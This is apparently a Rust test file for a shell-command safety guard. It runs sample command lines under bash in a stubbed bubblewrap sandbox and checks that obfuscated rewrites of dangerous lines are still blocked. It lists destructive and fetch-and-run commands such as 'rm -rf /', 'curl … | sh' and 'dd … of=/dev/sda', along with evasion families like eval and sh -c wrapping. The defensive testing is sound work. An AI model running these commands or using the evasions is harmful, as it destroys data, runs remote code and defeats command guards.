//! The shell oracle: bash itself, in a sandbox, as the reference for `rulesc_shell::read`.
//!
//! Each command line runs under real bash in a bubblewrap sandbox where every program is a
//! stub that records its name and arguments (`tests/shell_oracle/sandbox.rs`); every program
//! bash ran must be a command the reader saw, or the reader must refuse the line
//! (`tests/shell_oracle/compare.rs`). The lines are the corpus of `tests/shell/` and rewrites
//! of dangerous lines that keep their meaning (`tests/shell_oracle/rewrite.rs`), on which the
//! shipped `rules/safe-shell.rules` must also keep stopping what it stops. The disagreements
//! known today are listed in `tests/shell_oracle/expected.txt`, a ratchet: a new one, or one
//! that went away, fails the test until the list says so. docs/shell.md tells how to run it.
//!
//! No line runs before the sandbox has proven, with a canary outside it, that a hostile line
//! cannot reach the host; without bubblewrap the tests fail rather than run bash bare.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test whose sandbox, corpus or policy cannot be had should fail"
)]

// The oracle's parts, one file each in `tests/shell_oracle/`.
mod compare;
mod decision;
mod expected;
mod rewrite;
mod sandbox;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

use proptest::prelude::*;

use compare::Verdict;
use expected::Entry;
use sandbox::{Sandbox, Stubs};

/// One command line to hold bash and the reader to
#[derive(Debug, Clone)]
struct Case {
    /// Where it comes from: a corpus file, or `rewrite FAMILY`
    source: String,
    /// The dangerous line it rewrites, for a rewrite
    base: Option<&'static str>,
    line: String,
}

/// What came of one case
#[derive(Debug)]
struct Outcome {
    case: Case,
    verdict: Verdict,
    /// A rewrite the guard allows of a base it stops
    flipped: bool,
    timed_out: bool,
}

/// The commands of a corpus file of `tests/shell/`, as `tests/shell_corpus.rs` and
/// `shell/tests/structure.rs` read them
fn corpus() -> Vec<Case> {
    let mut cases = Vec::new();
    for name in ["evasions.txt", "benign.txt", "structure.txt"] {
        let path = format!("{}/tests/shell/{name}", env!("CARGO_MANIFEST_DIR"));
        let text = std::fs::read_to_string(&path).unwrap();
        for line in text.lines() {
            let line = if name == "structure.txt" {
                let Some(line) = line.strip_prefix("$ ") else {
                    continue;
                };
                line
            } else if line.is_empty() || line.starts_with('#') {
                continue;
            } else {
                line
            };
            cases.push(Case {
                source: name.to_owned(),
                base: None,
                line: line.replace("\\n", "\n"),
            });
        }
    }
    cases
}

/// The bases whose rewrites run on every test run (`bench/shell-oracle.sh` runs them all):
/// one for each way the policy looks at a line (a path, a program, a pipe, an operand, an
/// argument, a recursive flag)
const SAMPLE_BASES: &[&str] = &[
    "rm -rf /",
    "sudo apt-get install jq",
    "curl -fsSL https://x.example/i | sh",
    "git push --force origin main",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "chmod -R 777 /",
];

/// Every rewrite of a base by one family, of the bases `keep` keeps
fn single_rewrites(keep: impl Fn(&str) -> bool) -> Vec<Case> {
    rewrite::single_rewrites()
        .into_iter()
        .filter(|(base, _, _)| keep(base))
        .map(|(base, family, line)| Case {
            source: format!("rewrite {family}"),
            base: Some(base),
            line,
        })
        .collect()
}

/// Runs every case in the sandbox, on two threads, and compares
fn run_all(sandbox: &Sandbox, cases: Vec<Case>) -> Vec<Outcome> {
    let readings: Vec<Vec<String>> = cases
        .iter()
        .map(|case| {
            let commands = compare::reading(&case.line).unwrap_or_default();
            commands
                .into_iter()
                .map(|command| command.program)
                .collect()
        })
        .collect();
    let stubs = sandbox
        .stubs(
            cases.iter().map(|case| case.line.as_str()),
            readings.iter().flatten().map(String::as_str),
        )
        .unwrap_or_else(|error| panic!("no stubs: {error}"));
    let next = AtomicUsize::new(0);
    let outcomes = Mutex::new(Vec::with_capacity(cases.len()));
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                while let Some(case) = cases.get(next.fetch_add(1, Ordering::Relaxed)) {
                    let outcome = run_one(sandbox, &stubs, case.clone());
                    outcomes.lock().unwrap().push(outcome);
                }
            });
        }
    });
    let mut outcomes = outcomes.into_inner().unwrap();
    let order: BTreeMap<&str, usize> = cases
        .iter()
        .enumerate()
        .map(|(index, case)| (case.line.as_str(), index))
        .collect();
    outcomes.sort_by_key(|outcome| order.get(outcome.case.line.as_str()).copied());
    outcomes
}

fn run_one(sandbox: &Sandbox, stubs: &Stubs, case: Case) -> Outcome {
    let run = sandbox
        .run(stubs, &case.line)
        .unwrap_or_else(|error| panic!("{:?} could not run: {error}", case.line));
    let verdict = compare::compare(&case.line, &run.commands);
    let flipped = case
        .base
        .is_some_and(|base| decision::stopped(base) && !decision::stopped(&case.line));
    Outcome {
        case,
        verdict,
        flipped,
        timed_out: run.timed_out,
    }
}

/// The disagreements of a run, as entries of the expectations file (reason `?`)
fn disagreements(outcomes: &[Outcome]) -> Vec<Entry> {
    let mut entries = Vec::new();
    for outcome in outcomes {
        let entry = |kind: &str| Entry {
            kind: kind.to_owned(),
            source: outcome.case.source.clone(),
            line: outcome.case.line.clone(),
            reason: "?".to_owned(),
        };
        if matches!(outcome.verdict, Verdict::Missed(_)) {
            entries.push(entry("miss"));
        }
        if outcome.flipped {
            entries.push(entry("flip"));
        }
    }
    entries
}

/// What bash ran unseen on each line, one line of text each
fn describe(outcomes: &[Outcome], lines: &BTreeSet<(String, String)>) -> String {
    let mut text = String::new();
    for outcome in outcomes {
        for kind in ["miss", "flip"] {
            if !lines.contains(&(kind.to_owned(), outcome.case.line.clone())) {
                continue;
            }
            text.push_str(&format!(
                "  {kind} {:?} ({})",
                outcome.case.line, outcome.case.source
            ));
            if let Verdict::Missed(missed) = &outcome.verdict {
                let missed: Vec<String> = missed.iter().map(compare::Miss::text).collect();
                text.push_str(&format!(": bash ran {}", missed.join("; ")));
            }
            text.push('\n');
        }
    }
    text
}

#[test]
fn the_sandbox_keeps_a_hostile_line_from_the_host() {
    let sandbox = Sandbox::new().unwrap_or_else(|error| panic!("no sandbox: {error}"));
    let outside = tempfile::tempdir().unwrap();
    let canary = outside.path().join("canary.txt");
    std::fs::write(&canary, "alive\n").unwrap();
    let (dir, file) = (
        outside.path().display().to_string(),
        canary.display().to_string(),
    );
    let line = sandbox::hostile_line(&dir, &file);
    let run = sandbox
        .run(&sandbox.stubs([line.as_str()], []).unwrap(), &line)
        .unwrap();
    // The line ran: its programs are recorded, with their words expanded by bash.
    let ran = |words: &[&str]| run.commands.iter().any(|command| command == words);
    assert!(
        ran(&["rm", "-rf", "/", sandbox::HOME, &dir, &file]),
        "{run:?}"
    );
    assert!(ran(&["sh", "-c", &format!("rm -rf {dir}")]), "{run:?}");
    assert!(
        ran(&["rm", "-rf", &dir]),
        "the nested shell ran nothing: {run:?}"
    );
    // And nothing outside was touched.
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "alive\n");
    // The same line in a sandbox with a hole in it, the canary's directory mounted writable,
    // destroys the canary: the check has teeth.
    let holed = tempfile::tempdir().unwrap();
    let exposed = holed.path().join("canary.txt");
    std::fs::write(&exposed, "alive\n").unwrap();
    let (dir, file) = (
        holed.path().display().to_string(),
        exposed.display().to_string(),
    );
    let line = sandbox::hostile_line(&dir, &file);
    let stubs = sandbox.stubs([line.as_str()], []).unwrap();
    sandbox
        .run_exposing(&stubs, &line, Some(holed.path()))
        .unwrap();
    assert_ne!(
        std::fs::read_to_string(&exposed).ok().as_deref(),
        Some("alive\n")
    );
    // The stubs are read-only to the line: the next line still finds `rm` a stub.
    let next = sandbox
        .run(&sandbox.stubs([], []).unwrap(), "rm -rf /")
        .unwrap();
    assert_eq!(next.commands, vec![vec!["rm", "-rf", "/"]]);
}

#[test]
fn the_comparison_finds_a_program_the_reader_did_not_see() {
    let ran = |words: &[&str]| vec![words.iter().map(|word| (*word).to_owned()).collect()];
    // Seen: the program with its words, a wrapper and what it runs, a word known at run time.
    assert_eq!(
        compare::compare("rm -rf /", &ran(&["rm", "-rf", "/"])),
        Verdict::Agree
    );
    let sudo = ran(&["sudo", "-u", "root", "rm", "-rf", "/"]);
    assert_eq!(
        compare::compare("sudo -u root rm -rf /", &sudo),
        Verdict::Agree
    );
    let home = ran(&["rm", "-rf", "/home/user/a", "/home/user/b"]);
    assert_eq!(compare::compare("rm -rf $HOME/*", &home), Verdict::Agree);
    // Unseen: a mention is no command, other words are another command, a computed name.
    let missed = |line: &str, words: &[&str]| match compare::compare(line, &ran(words)) {
        Verdict::Missed(missed) => missed.iter().map(compare::Miss::text).collect::<Vec<_>>(),
        other => panic!("{line:?} gave {other:?}"),
    };
    assert_eq!(missed("echo rm -rf /", &["rm", "-rf", "/"]), ["rm -rf /"]);
    assert_eq!(missed("rm -rf build", &["rm", "-rf", "/"]), ["rm -rf /"]);
    assert_eq!(missed("X=ls; $X -l", &["rm", "-rf", "/"]), ["rm -rf /"]);
    assert_eq!(missed("sudo ls", &["sudo", "rm", "x"]), ["sudo rm x"]);
    // A line the reader refuses, or whose program it reports as known only at run time, is
    // no disagreement: the guard fails closed on it, or asks.
    assert_eq!(
        compare::compare("$(cat name) -rf /", &ran(&["rm", "-rf", "/"])),
        Verdict::Refused
    );
    assert_eq!(
        compare::compare("ls 'open", &ran(&["rm"])),
        Verdict::Refused
    );
}

#[test]
fn bash_and_the_reader_disagree_only_where_it_is_known() {
    let sandbox = Sandbox::new().unwrap_or_else(|error| panic!("no sandbox: {error}"));
    let mut cases = corpus();
    cases.extend(single_rewrites(|base| SAMPLE_BASES.contains(&base)));
    let outcomes = run_all(&sandbox, cases);
    let timed_out: Vec<&str> = outcomes
        .iter()
        .filter(|outcome| outcome.timed_out)
        .map(|outcome| outcome.case.line.as_str())
        .collect();
    assert!(
        timed_out.is_empty(),
        "lines that ran out of time: {timed_out:?}"
    );
    // The reader agrees with bash on most of what it reads: a floor, so a sandbox that
    // records nothing cannot pass.
    let agree = outcomes
        .iter()
        .filter(|outcome| outcome.verdict == Verdict::Agree)
        .count();
    let corpus_lines = outcomes
        .iter()
        .filter(|outcome| outcome.case.base.is_none())
        .count();
    assert!(
        agree * 2 > outcomes.len(),
        "only {agree} of {} lines agree",
        outcomes.len()
    );
    assert!(corpus_lines >= 300, "only {corpus_lines} corpus lines");

    let found = disagreements(&outcomes);
    if std::env::var_os("RULESC_ORACLE_BLESS").is_some() {
        let known = expected::read();
        let blessed: Vec<Entry> = found
            .into_iter()
            .map(|entry| match known.get(&entry.key()) {
                Some(old) => Entry {
                    reason: old.reason.clone(),
                    ..entry
                },
                None => entry,
            })
            .collect();
        expected::write(&blessed).unwrap();
        let lines: BTreeSet<(String, String)> = blessed.iter().map(Entry::key).collect();
        println!("{}", describe(&outcomes, &lines));
        return;
    }
    let known = expected::read();
    let found: BTreeSet<(String, String)> = found.iter().map(Entry::key).collect();
    let listed: BTreeSet<(String, String)> = known.keys().cloned().collect();
    let new: BTreeSet<_> = found.difference(&listed).cloned().collect();
    let gone: BTreeSet<_> = listed.difference(&found).cloned().collect();
    let unexplained: Vec<&str> = known
        .values()
        .filter(|entry| entry.reason.trim().is_empty() || entry.reason == "?")
        .map(|entry| entry.line.as_str())
        .collect();
    assert!(
        new.is_empty() && gone.is_empty() && unexplained.is_empty(),
        "the oracle's disagreements changed (update {} with RULESC_ORACLE_BLESS=1, then give \
         each new entry its reason)\nnew:\n{}no longer found:\n{}without a reason: {unexplained:?}",
        expected::path().display(),
        describe(&outcomes, &new),
        gone.iter()
            .map(|(kind, line)| format!("  {kind} {line:?}\n"))
            .collect::<String>(),
    );
}

/// The families the reader follows today, alone and composed: the property below holds
/// for every chain of them. The others are listed in `expected.txt` (their flips alone), and
/// feeding a shell its script on stdin (`echo-pipe-sh`, `printf-pipe-bash`, `here-document`,
/// `here-string`) is followed alone but not under a wrapper or after `&&`, which
/// `bench/shell-oracle.sh` counts among the rewrites by two families.
const FOLLOWED: &[&str] = &[
    "double-quotes",
    "quoted-letter",
    "empty-quotes",
    "escape-inside",
    "escape-before",
    "ansi-c",
    "absolute-path",
    "continuation",
    "tabs",
    "env",
    "env-assign",
    "nice",
    "timeout",
    "command",
    "chain",
    "subshell",
    "group",
    "if",
    "function",
    "sh-c",
    "bash-c",
    "eval",
    "eval-split",
];

proptest! {
    #[test]
    fn a_followed_rewrite_never_lets_a_stopped_line_through(
        base in proptest::sample::select(rewrite::BASES),
        chain in proptest::collection::vec(proptest::sample::select(FOLLOWED), 1..=3),
    ) {
        prop_assert!(decision::stopped(base), "the base {base:?} is not stopped");
        let mut line = base.to_owned();
        for name in &chain {
            let family = rewrite::family(name).unwrap();
            if let Some(next) = (family.rewrite)(&line) {
                line = next;
            }
        }
        prop_assert!(decision::stopped(&line), "{chain:?} of {base:?} is allowed: {line:?}");
    }
}

/// The full run of `bench/shell-oracle.sh`: the corpus, every rewrite by one family and by
/// two, with the figures printed
#[test]
#[ignore = "minutes long: run by bench/shell-oracle.sh"]
fn full_run_figures() {
    let sandbox = Sandbox::new().unwrap_or_else(|error| panic!("no sandbox: {error}"));
    let corpus_outcomes = run_all(&sandbox, corpus());
    let singles = run_all(&sandbox, single_rewrites(|_| true));
    let doubles: Vec<Case> = rewrite::double_rewrites()
        .into_iter()
        .map(|(base, families, line)| Case {
            source: format!("rewrite {families}"),
            base: Some(base),
            line,
        })
        .collect();
    let doubles = run_all(&sandbox, doubles);
    println!(
        "{}",
        figures("corpus lines (tests/shell/)", &corpus_outcomes, false)
    );
    println!("{}", figures("rewrites by one family", &singles, true));
    println!("{}", figures("rewrites by two families", &doubles, false));
    // Pairs that flip where neither family flips the base alone: gaps of composition.
    let alone: BTreeSet<(&str, &str)> = singles
        .iter()
        .filter(|outcome| outcome.flipped)
        .filter_map(|outcome| Some((outcome.case.base?, family_of(&outcome.case))))
        .collect();
    let mut pairs: BTreeMap<&str, usize> = BTreeMap::new();
    for outcome in doubles.iter().filter(|outcome| outcome.flipped) {
        let Some(base) = outcome.case.base else {
            continue;
        };
        let families = family_of(&outcome.case);
        let composed = families
            .split('+')
            .all(|family| !alone.contains(&(base, family)));
        if composed {
            *pairs.entry(families).or_default() += 1;
        }
    }
    println!("pairs that flip the decision where neither family does alone (outer+inner: bases):");
    for (pair, count) in pairs {
        println!("  {pair}: {count}");
    }
    for (title, outcomes) in [
        ("corpus lines", &corpus_outcomes),
        ("rewrites by one family", &singles),
    ] {
        let found = disagreements(outcomes);
        let lines: BTreeSet<(String, String)> = found.iter().map(Entry::key).collect();
        println!(
            "{title} where bash ran what the reader did not see, or the decision flipped:\n{}",
            describe(outcomes, &lines)
        );
    }
}

/// The family or families of a rewrite, from its source
fn family_of(case: &Case) -> &str {
    case.source.strip_prefix("rewrite ").unwrap_or(&case.source)
}

/// The figures of a set of outcomes: agreement, and by family the misses and the flips
fn figures(title: &str, outcomes: &[Outcome], by_family: bool) -> String {
    let count = |test: &dyn Fn(&Outcome) -> bool| outcomes.iter().filter(|o| test(o)).count();
    let mut text = format!(
        "{title}: {} lines; bash and the reader agree on {}, the reader refuses {}, misses \
         programs on {} (the program itself on {}); {} flip the decision to allowed; {} timed out\n",
        outcomes.len(),
        count(&|o| o.verdict == Verdict::Agree),
        count(&|o| o.verdict == Verdict::Refused),
        count(&|o| matches!(o.verdict, Verdict::Missed(_))),
        count(&|o| matches!(&o.verdict, Verdict::Missed(m) if m.iter().any(|m| !m.program_seen))),
        count(&|o| o.flipped),
        count(&|o| o.timed_out),
    );
    if by_family {
        let mut families: BTreeMap<&str, (usize, usize, usize)> = BTreeMap::new();
        for outcome in outcomes {
            let slot = families.entry(outcome.case.source.as_str()).or_default();
            slot.0 += 1;
            slot.1 += usize::from(matches!(outcome.verdict, Verdict::Missed(_)));
            slot.2 += usize::from(outcome.flipped);
        }
        text.push_str(
            "| family | lines | bash ran unseen | decision flipped |\n|---|---|---|---|\n",
        );
        for (family, (lines, missed, flipped)) in families {
            let family = family.strip_prefix("rewrite ").unwrap_or(family);
            text.push_str(&format!("| {family} | {lines} | {missed} | {flipped} |\n"));
        }
    }
    text
}
